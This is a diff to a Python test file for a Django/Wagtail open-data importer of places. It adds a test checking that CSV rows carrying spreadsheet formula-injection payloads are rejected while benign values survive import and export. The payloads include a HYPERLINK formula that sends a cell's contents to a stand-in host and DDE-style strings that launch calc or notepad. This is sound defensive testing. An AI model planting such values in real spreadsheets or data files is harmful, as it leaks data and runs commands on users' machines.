@@ -1,6 +1,7 @@
 """Open data: the CSV validates against the national table schema (frictionless), the GeoJSON
 carries the same places, and `import_lieux` reads the same format back (idempotent)."""
 
+import csv
 import io
 import json
 from pathlib import Path
@@ -12,7 +13,7 @@ from django.core.management import call_command
 from wagtail.models import Locale
 
 from lieux.models import PlacePage
-from lieux.opendata import SCHEMA_FILE, import_places
+from lieux.opendata import FIELDS, SCHEMA_FILE, import_places
 
 EXAMPLE = SCHEMA_FILE.parent / "exemple-valide.csv"
 
@@ -132,3 +133,48 @@ def test_import_matches_by_siret_and_reports_each_bad_row(places, tmp_path, caps
         "Mo-Fr 08:00-12:00",
     )
     assert PlacePage.objects.filter(locale=Locale.get_default()).count() == 3
+
+
+def test_import_refuses_text_a_spreadsheet_would_run_and_keeps_the_rest_faithful(
+    client, places, tmp_path, capsys
+):
+    base = {
+        "pivot": "00000000000000",
+        "commune": "Le Lamentin",
+        "code_postal": "97232",
+        "code_insee": "97213",
+        "adresse": "Bourg",
+        "date_maj": "2026-05-01",
+    }
+    rows = [
+        {"id": "f-1", "nom": '=HYPERLINK("https://x.example/?"&A1,"Clic")'},
+        {"id": "f-2", "nom": "Lieu 2", "adresse": "-2+3+cmd|' /C calc'!A0"},
+        {"id": "f-3", "nom": "Lieu 3", "presentation_resume": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        {"id": "f-4", "nom": "Lieu 4", "complement_adresse": "\t=1+1", "source": "+cmd|' /C notepad'!A0"},
+        {
+            "id": "ok-1",
+            "nom": "Lakou Numérik",
+            "telephone": "+596 596 12 34 56",
+            "presentation_resume": "-5 % pour les étudiants",
+            "complement_adresse": "\tEntrée libre",
+        },
+    ]
+    path = tmp_path / "import.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=FIELDS)
+        writer.writeheader()
+        writer.writerows({**base, **row} for row in rows)
+    call_command("import_lieux", str(path))
+    out, err = capsys.readouterr()
+    formula = "serait exécuté comme une formule par un tableur"
+    assert f'ligne 2 : rejeté f-1 : nom : « =HYPERLINK("https://x.example/?"&A1,"Clic") » {formula}' in err
+    assert f"ligne 3 : rejeté f-2 : adresse : « -2+3+cmd|' /C calc'!A0 » {formula}" in err
+    assert f"ligne 4 : rejeté f-3 : presentation_resume : « @SUM(1+1)*cmd|' /C calc'!A0 » {formula}" in err
+    assert f"ligne 5 : rejeté f-4 : complement_adresse : « =1+1 » {formula}; source : « +cmd" in err
+    assert "1 créé(s), 0 mis à jour, 4 rejeté(s)." in out
+    place = PlacePage.objects.get(external_id="ok-1")
+    assert (place.summary, place.address_extra) == ("-5 % pour les étudiants", "Entrée libre")
+    exported = list(csv.DictReader(io.StringIO(download(client, "/api/lieux.csv"))))
+    row = next(row for row in exported if row["id"] == "ok-1")
+    assert (row["presentation_resume"], row["telephone"]) == ("-5 % pour les étudiants", "+596596123456")
+    assert not any(row["id"].startswith("f-") for row in exported)
